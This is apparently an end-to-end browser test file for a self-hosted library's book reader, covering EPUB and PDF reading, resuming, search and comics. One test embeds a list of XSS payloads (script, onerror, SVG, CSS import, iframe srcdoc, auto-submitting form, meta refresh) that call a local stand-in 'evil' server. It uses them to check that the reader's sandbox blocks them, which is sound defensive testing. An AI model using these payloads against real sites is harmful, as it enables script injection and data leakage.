/**
 * Reading in a browser: an EPUB and a PDF are closed and continued at the same place, words of a PDF are searched and
 * copied, a comic is read from right to left, and a hostile EPUB runs nothing and reaches nothing outside.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import sharp from 'sharp';
import { comicEntries, makeComic, makeEpub } from '../../src/lib/books/testing.ts';
import { makeRar5 } from '../../src/lib/books/testing-packed.ts';
import { makePdf } from '../../src/lib/books/testing-pdf.ts';
import { ask } from '../faults/child.ts';
import { passes, until } from '../until.ts';
import { closeAll, type Home, openView, settled, untilPage, type View, withHeldTimers } from './browser.ts';
import { comicFlows } from './comics.ts';
import { openSettledHome, signIn } from './places.ts';

/** A server outside: each request to it is counted, but for those of its own pages with the markup as it is. */
const outside = createServer((request, reply) => {
  const [, bare] = /^\/bare\/(\d+)$/.exec(request.url ?? '') ?? [];
  if (bare !== undefined) {
    const body = `<!doctype html><html><body>${hostile()[Number(bare)] ?? ''}</body></html>`;
    reply.writeHead(200, { 'content-type': 'text/html' }).end(body);
    return;
  }
  if (request.url === '/favicon.ico') {
    reply.writeHead(404).end();
    return;
  }
  asked.push(request.url ?? '');
  reply.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('');
});
const asked: string[] = [];
let evil = '';

/** Markup that runs a script or asks the server outside in a browser that shows it as it is. */
const hostile = (): string[] => [
  `<script>top.hit = 1; fetch('${evil}/script')</script>`,
  `<script src="${evil}/src.js"></script>`,
  `<img src="${evil}/img.png" onerror="top.hit = 1; fetch('${evil}/handler')"/>`,
  `<body onload="fetch('${evil}/onload')"><p>x</p></body>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${evil}/svg')">` +
    `<script>fetch('${evil}/svg-script')</script><image href="${evil}/svg.png" width="9" height="9"/></svg>`,
  `<style>@import "${evil}/import.css"; p { background: url(${evil}/background.png) }</style><p>x</p>`,
  `<p style="background: u\\72l('${evil}/escaped.png')">x</p>`,
  `<iframe src="${evil}/frame"></iframe>` +
    `<iframe srcdoc="&lt;script&gt;fetch('${evil}/srcdoc')&lt;/script&gt;"></iframe>`,
  `<object data="${evil}/object"></object><embed src="${evil}/embed"/>`,
  `<link rel="stylesheet" href="${evil}/link.css"/><link rel="prefetch" href="${evil}/prefetch"/>`,
  `<video autoplay="" muted="" src="${evil}/video.mp4" poster="${evil}/poster.png"></video>`,
  `<form id="f" action="${evil}/form"><input name="a"/></form><script>document.getElementById('f').submit()</script>`,
  `<math><mtext><img src="data:x" onerror="fetch('${evil}/math')"/></mtext></math>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh"/>`,
];

let home: Home;
const ids = new Map<string, string>();
before(async () => {
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  let token: string;
  ({ home, token } = await openSettledHome());
  const folder = join(dirname(home.media), 'books');
  mkdirSync(folder);
  const words = Array.from({ length: 900 }, (_, n) => `word${n}`).join(' ');
  const text = Array.from({ length: 6 }, (_, n) => `<p id="p${n}">${n}: ${words}</p>`).join('');
  writeFileSync(
    join(folder, 'Tide.epub'),
    makeEpub({
      title: 'The Tide',
      authors: ['Ada Writer'],
      parts: [
        { title: 'Ebb', markup: `<h1>Ebb</h1>${text}` },
        { title: 'Flood', markup: `<h1>Flood</h1><p>The needle is here.</p>${text}` },
      ],
    }),
  );
  writeFileSync(
    join(folder, 'Hostile.epub'),
    makeEpub({
      title: 'Hostile',
      parts: hostile().map((markup, n) => ({ title: `Part ${n}`, markup: `${markup}<p>kept</p>` })),
    }),
  );
  const pages = await Promise.all(
    ['#a33', '#3a3', '#33a', '#aa3', '#3aa'].map(async (background, n) => ({
      name: `${n}.png`,
      bytes: await sharp({ create: { width: 300, height: 450, channels: 3, background } })
        .png()
        .toBuffer(),
    })),
  );
  writeFileSync(join(folder, 'Moon.cbz'), makeComic(pages, { Title: 'Moon', Manga: 'YesAndRightToLeft' }));
  const tall = await sharp({ create: { width: 60, height: 900, channels: 3, background: '#395' } })
    .png()
    .toBuffer();
  writeFileSync(
    join(folder, 'Tall.cbz'),
    makeComic(['1.png', '2.png', '3.png'].map((name) => ({ name, bytes: tall }))),
  );
  writeFileSync(join(folder, 'Sun.cbr'), makeRar5(comicEntries(pages, { Title: 'Sun' })));
  for (const [n, own] of [pages, pages.slice(2)].entries())
    writeFileSync(join(folder, `Pair v0${n + 1}.cbz`), makeComic(own, { Series: 'Pair', Volume: n + 1 }));
  writeFileSync(
    join(folder, 'Walks.pdf'),
    makePdf({
      title: 'Walks',
      pages: [['Begin at the market.'], ['The white', 'rabbit waits.', 'A second rabbit follows.'], ['The end.']],
      outline: [
        { title: 'Market', page: 0 },
        { title: 'Rabbits', page: 1 },
      ],
    }),
  );
  const body = { name: 'Books', path: folder, kind: 'books' };
  assert.equal((await ask(home.server, 'POST', '/api/v1/libraries', { token, body })).status, 201);
  await until('the books to be scanned', async () => {
    const reply = await ask<{ items: { id: string; title: string }[] }>(
      home.server,
      'GET',
      '/api/v1/library?view=books',
      { token },
    );
    for (const { id, title } of reply.body.items) ids.set(title, id);
    return ids.size === 7;
  });
});
after(async () => {
  await closeAll();
  outside.close();
});

/** Returns the address that the frame shows, and how far the text is moved. */
const shown = (page: Page): Promise<string> =>
  page.evaluate(
    "(({ contentWindow, contentDocument }) => contentWindow.location.pathname + ' ' + " +
      "contentDocument.body.style.transform)(document.querySelector('iframe'))",
  );
const saved = (page: Page) => page.waitForResponse((reply) => reply.url().endsWith('/reader/progress') && reply.ok());
const FRAME_IS_READY = "document.querySelector('iframe')?.style.opacity === '1'";

test('an EPUB is read, closed, and continued at the same place', async () => {
  const view = await openView(home);
  const { page } = view;
  await signIn(view, home);
  const id = ids.get('The Tide') ?? '';
  await page.goto('/library?view=books');
  await page.locator('main li', { hasText: 'The Tide' }).first().hover();
  await page.getByRole('checkbox', { name: 'Select The Tide' }).click();
  await page.getByRole('toolbar', { name: 'Selection' }).getByRole('button', { name: 'Mark as read' }).waitFor();
  await page.goto(`/book/${id}`);
  await page.getByRole('link', { name: 'Read', exact: true }).click();
  await untilPage(page, FRAME_IS_READY);
  await page.getByText('Part 1 of 2').waitFor();
  const start = await shown(page);
  await page.keyboard.press('ArrowRight');
  const second = await shown(page);
  let place = '';
  await withHeldTimers(page, async () => {
    // The link that closes the book has the focus.
    await page.keyboard.press('Space');
    place = await shown(page);
    assert.equal(new Set([start, second, place]).size, 3, 'the pages were turned');
    // Before the place would be saved by itself.
    const left = saved(page);
    await page.getByRole('link', { name: 'Close the book' }).click();
    await left;
  });
  await page.getByRole('link', { name: 'Continue reading' }).click();
  await untilPage(page, FRAME_IS_READY);
  assert.equal(await shown(page), place);

  await page.getByRole('button', { name: 'Search in the book' }).click();
  await page.getByLabel('Search for').fill('flood the NEEDLE');
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: /The needle is here/ }).click();
  await page.getByText('Part 2 of 2').waitFor();
  const selected = "String(document.querySelector('iframe').contentDocument.getSelection())";
  assert.match(await page.evaluate<string>(selected), /^Flood\s+The needle$/, 'a match across two blocks is found');
  await page.getByRole('button', { name: 'Contents' }).click();
  await page.getByRole('button', { name: 'Ebb' }).click();
  await page.getByText('Part 1 of 2').waitFor();

  // Another type size, and back again, shows the same page.
  for (let turns = 0; turns < 3; turns++) await page.keyboard.press('ArrowRight');
  const before = await shown(page);
  await page.getByRole('button', { name: 'Reading settings' }).click();
  for (const name of ['Larger', 'Smaller'])
    for (let steps = 0; steps < 4; steps++) await page.getByRole('button', { name }).click();
  // The text is laid out after the next frame.
  await settled(page);
  assert.equal(await shown(page), before);

  await page.getByText('Scrolled').click();
  await page.keyboard.press('Escape');
  await untilPage(page, "document.querySelector('iframe').contentDocument.body.style.transform === 'none'");
  const scrolled = (): Promise<number> =>
    page.evaluate("document.querySelector('iframe').contentDocument.documentElement.scrollTop");
  const top = await scrolled();
  assert.ok(top > 0, 'the place is kept');
  await page.mouse.move(640, 400);
  await page.mouse.wheel(0, 200);
  await passes(async () => assert.equal(await scrolled(), top + 200, 'the wheel scrolls after a dialog'));
  await page.keyboard.press('ArrowUp');
  await passes(async () => assert.equal(await scrolled(), top + 120, 'keys scroll while a button has the focus'));

  // The book was opened from its page, and Back does not lead into it again.
  await page.getByRole('link', { name: 'Close the book' }).click();
  await page.getByRole('link', { name: 'Continue reading' }).waitFor();
  await page.goBack();
  await page.waitForURL('**/library?view=books');
  await view.close();
});

test('a window that changes its size does not take the place of another device back', async () => {
  const [desk, phone] = [await openView(home), await openView(home, { width: 390, height: 700 })];
  const id = ids.get('The Tide') ?? '';
  const openAt = async (view: View) => {
    const { page } = view;
    await signIn(view, home);
    const opened = saved(page);
    await page.goto(`/reader/${id}`);
    await untilPage(page, FRAME_IS_READY);
    await opened;
  };
  const place = async () => (await desk.context.request.get(`/api/v1/books/${id}/reader/progress`)).json();
  const turn = async ({ page }: View) => {
    for (let turns = 0; turns < 3; turns++) await page.keyboard.press('ArrowRight');
    // Saved, too.
    await settled(page);
  };
  await openAt(desk);
  await turn(desk);
  await openAt(phone);
  await turn(phone);
  const there = await place();
  const before = await shown(desk.page);
  await desk.page.setViewportSize({ width: 900, height: 500 });
  await passes(async () => assert.notEqual(await shown(desk.page), before));
  // A report would be pending.
  await settled(desk.page);
  assert.deepEqual(await place(), there);
  const back = saved(desk.page);
  await desk.page.keyboard.press('ArrowRight');
  await back;
  assert.notDeepEqual(await place(), there, 'a page that is turned is reported');
  await Promise.all([desk.close(), phone.close()]);
});

for (const { name, run } of comicFlows)
  test(name, () => run(home, (title) => ids.get(title) ?? assert.fail(`no book ${title}`)));

test('a PDF is read, searched and copied from, closed, and continued at the same page', async () => {
  const view = await openView(home);
  const { page } = view;
  await signIn(view, home);
  await page.goto(`/book/${ids.get('Walks') ?? ''}`);
  await page.getByRole('link', { name: 'Read', exact: true }).click();
  await page.getByText('Page 1 of 3').waitFor();
  await page.getByRole('group', { name: 'Text of page 1' }).getByText('Begin at the market.').waitFor();
  await page.getByRole('button', { name: 'Search in the book' }).click();
  await page.getByLabel('Search for').fill('RABBIT');
  await page.keyboard.press('Enter');
  await page.getByText('2 matches').waitFor();
  await page
    .getByRole('button', { name: /white rabbit waits/ })
    .first()
    .click();
  await page.getByText('Page 2 of 3').waitFor();
  const text = page.getByRole('group', { name: 'Text of page 2' });
  await untilPage(page, `document.querySelectorAll('svg[role=group] rect').length === 2`);
  // The mark lies on the word of the picture: the middle of the line begins with it.
  const [mark, line] = [
    await text.locator('rect').first().boundingBox(),
    await text.getByText('rabbit waits.').boundingBox(),
  ];
  assert.ok(
    mark && line && Math.abs(mark.x - line.x) < 2 && mark.width < line.width * 0.7,
    JSON.stringify([mark, line]),
  );
  const copied = await page.evaluate(`(() => {
    const [first, second] = document.querySelectorAll('svg[role=group] text');
    getSelection().setBaseAndExtent(first.firstChild, 4, second.firstChild, 6);
    const clipboardData = new DataTransfer();
    second.dispatchEvent(new ClipboardEvent('copy', { clipboardData, bubbles: true, cancelable: true }));
    return clipboardData.getData('text/plain');
  })()`);
  assert.equal(copied, 'white\nrabbit');
  // Dragging over words selects them, and the click that it ends with turns no page.
  await page.evaluate('getSelection().removeAllRanges()');
  const words = await text.getByText('A second rabbit').boundingBox();
  assert.ok(words);
  await page.mouse.move(words.x + 1, words.y + words.height / 2);
  await page.mouse.down();
  await page.mouse.move(words.x + words.width - 1, words.y + words.height / 2, { steps: 4 });
  await page.mouse.up();
  assert.match(await page.evaluate('String(getSelection())'), /second rabbit/);
  await page.getByText('Page 2 of 3').waitFor();
  await page.mouse.click(20, 400);
  await page.mouse.click(20, 400);
  await page.getByText('Page 1 of 3').waitFor();
  await page.getByRole('button', { name: 'Contents' }).click();
  const entry = page.getByRole('button', { name: 'Rabbits' });
  const border = await page.evaluate("getComputedStyle(document.querySelector('dialog li button')).borderTopWidth");
  assert.equal(border, '0px', 'no plain button');
  await entry.click();
  await page.getByText('Page 2 of 3').waitFor();
  const saved = page.waitForResponse((reply) => reply.url().endsWith('/reader/progress') && reply.ok());
  await page.getByRole('link', { name: 'Close the book' }).click();
  await saved;
  await page.getByRole('link', { name: 'Continue reading' }).click();
  await page.getByText('Page 2 of 3').waitFor();
  await page.goto(`/reader/${ids.get('Sun') ?? ''}`);
  await page.getByText('Page 1 of 5').waitFor();
  await untilPage(page, "document.querySelector('img[alt]')?.naturalWidth > 0");
  await view.close();
});

test('the last page of a book leads to the next one of its series', async () => {
  const view = await openView(home);
  const { page } = view;
  await signIn(view, home);
  await page.goto(`/series/${ids.get('Pair') ?? ''}`);
  await page.evaluate('isSameDocument = true');
  await page.getByRole('link', { name: /^Read / }).click();
  await page.getByText('Page 1 of 5').waitFor();
  assert.equal(await page.evaluate('globalThis.isSameDocument'), true, 'what plays goes on');
  assert.equal(await page.getByRole('link', { name: 'Next in series' }).count(), 0);
  await page.keyboard.press('End');
  await page.getByText('Page 5 of 5').waitFor();
  await page.setViewportSize({ width: 390, height: 800 });
  assert.equal(await page.evaluate('document.documentElement.scrollWidth'), 390);
  await page.getByRole('link', { name: 'Next in series' }).click();
  await page.getByText('Page 1 of 3').waitFor();
  await page.keyboard.press('End');
  await page.getByText('Page 3 of 3').waitFor();
  assert.equal(await page.getByRole('link', { name: 'Next in series' }).count(), 0);
  await view.close();
});

/** Shows every part of the hostile book. */
async function readHostile(page: Page): Promise<void> {
  for (const [n] of hostile().entries()) {
    await untilPage(page, `document.querySelector('iframe')?.contentWindow.location.pathname.endsWith('/part/${n}')`);
    await untilPage(page, FRAME_IS_READY);
    await page.getByText(`Part ${n + 1} of`).waitFor();
    assert.match(await page.evaluate("document.querySelector('iframe').contentDocument.body.textContent"), /kept/);
    await page.keyboard.press('ArrowRight');
  }
}

test('a book is marked in the words of books, and as before after Undo', async () => {
  const view = await openView(home);
  await signIn(view, home);
  const { page } = view;
  await page.goto(`/book/${ids.get('Walks') ?? ''}`);
  const title = (await page.getByRole('heading', { level: 1 }).textContent()) ?? '';
  const mark = page.getByRole('button', { name: 'Mark as read', exact: true });
  await mark.click();
  await page.getByText(`Marked ${title} as read`).waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await mark.waitFor();
  await view.close();
});

test('a hostile EPUB runs nothing and reaches nothing outside', async () => {
  const view = await openView(home);
  const { page } = view;
  await signIn(view, home);
  asked.length = 0;
  const requests: string[] = [];
  page.on('request', (request) => void (request.url().startsWith(home.url) || requests.push(request.url())));
  // Opened as the first page, and from another one, whose document stays.
  await page.goto(`/reader/${ids.get('Hostile') ?? ''}`);
  await readHostile(page);
  await page.goto('/library?view=books');
  await page.goto(`/book/${ids.get('Hostile') ?? ''}`);
  await page.evaluate('isSameDocument = true');
  await page.getByRole('link', { name: /^(Read|Continue reading)$/ }).click();
  await untilPage(page, FRAME_IS_READY);
  await page.keyboard.press('Home');
  await readHostile(page);
  assert.equal(await page.evaluate('globalThis.isSameDocument'), true);
  assert.equal(await page.evaluate('window.hit'), undefined);
  assert.deepEqual([requests, asked], [[], []]);
  await view.close();

  // The same markup in a page without protection: each piece does something, so its silence above means something.
  const bare = await openView(home, { expected: /./, isWithoutWorker: true });
  for (const [n, markup] of hostile().entries()) {
    const before = asked.length;
    await bare.page.goto(`${evil}/bare/${n}`).catch(() => undefined);
    await until(`${markup} to be harmful`, () => asked.length > before);
  }
  await bare.close();
});
